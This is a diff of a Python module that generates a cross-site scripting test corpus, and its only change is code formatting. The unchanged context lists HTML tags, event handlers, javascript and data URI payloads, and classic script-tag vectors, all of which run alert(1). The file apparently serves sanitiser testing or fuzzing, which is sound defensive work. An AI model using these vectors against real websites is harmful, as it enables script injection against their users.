@@ -17,17 +17,50 @@ VECTORS_FILE = Path(__file__).with_name("xss_vectors.txt")
 PAYLOAD = "alert(1)"
 
 EVENT_TAGS = [
-    "img src=x", "image src=x", "svg", "body", "iframe", "video src=x", "audio src=x",
-    "details open", "input autofocus", "select autofocus", "textarea autofocus",
-    "a href=#", "div", "p", "span", "marquee", "object data=x", "embed src=x", "style",
-    "frameset", "isindex", "keygen autofocus", "math", "table background=x", "td",
-    "h2", "figure", "blockquote", "li", "button",
-]  # fmt: skip
+    "img src=x",
+    "image src=x",
+    "svg",
+    "body",
+    "iframe",
+    "video src=x",
+    "audio src=x",
+    "details open",
+    "input autofocus",
+    "select autofocus",
+    "textarea autofocus",
+    "a href=#",
+    "div",
+    "p",
+    "span",
+    "marquee",
+    "object data=x",
+    "embed src=x",
+    "style",
+    "frameset",
+    "isindex",
+    "keygen autofocus",
+    "math",
+    "table background=x",
+    "td",
+    "h2",
+    "figure",
+    "blockquote",
+    "li",
+    "button",
+]
 
 EVENT_HANDLERS = [
-    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
-    "onanimationstart", "onpointerenter", "onbegin", "onstart",
-]  # fmt: skip
+    "onerror",
+    "onload",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "ontoggle",
+    "onanimationstart",
+    "onpointerenter",
+    "onbegin",
+    "onstart",
+]
 
 HANDLER_SYNTAXES = [
     "<{tag} {handler}={payload}>",
@@ -62,7 +95,7 @@ SCRIPT_URLS = [
     "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
     "DATA:text/html,<svg onload=alert(1)>",
     "&#100;ata:text/html,<script>alert(1)</script>",
-]  # fmt: skip
+]
 
 URL_ATTRIBUTES = [
     '<a href="{url}">link</a>',
@@ -85,7 +118,7 @@ URL_ATTRIBUTES = [
     '<area href="{url}">',
     '<frameset><frame src="{url}"></frameset>',
     '<table background="{url}"><tr><td>x</td></tr></table>',
-]  # fmt: skip
+]
 
 CLASSIC = r'''
 <script>alert(1)</script>
@@ -328,11 +361,11 @@ CLASSIC = r'''
 
 
 def event_handler_vectors() -> list[str]:
-    vectors = []
-    for tag, handler, syntax in itertools.product(EVENT_TAGS, EVENT_HANDLERS, HANDLER_SYNTAXES):
-        vectors.append(syntax.format(tag=tag, handler=handler, upper=handler.upper(),
-                                     payload=PAYLOAD))  # fmt: skip
-    return vectors
+    combinations = itertools.product(EVENT_TAGS, EVENT_HANDLERS, HANDLER_SYNTAXES)
+    return [
+        syntax.format(tag=tag, handler=handler, upper=handler.upper(), payload=PAYLOAD)
+        for tag, handler, syntax in combinations
+    ]
 
 
 def url_vectors() -> list[str]:
@@ -387,8 +420,17 @@ def corpus() -> list[str]:
     return list(seen)
 
 
-ESCAPES = {"\\t": "\t", "\\n": "\n", "\\r": "\r", "\\0": "\0", "\\x0b": "\x0b",
-           "\\x0c": "\x0c", "\\x01": "\x01", "\\x20": " ", "\\x3a": ":"}  # fmt: skip
+ESCAPES = {
+    "\\t": "\t",
+    "\\n": "\n",
+    "\\r": "\r",
+    "\\0": "\0",
+    "\\x0b": "\x0b",
+    "\\x0c": "\x0c",
+    "\\x01": "\x01",
+    "\\x20": " ",
+    "\\x3a": ":",
+}
 
 
 def decode(line: str) -> str:
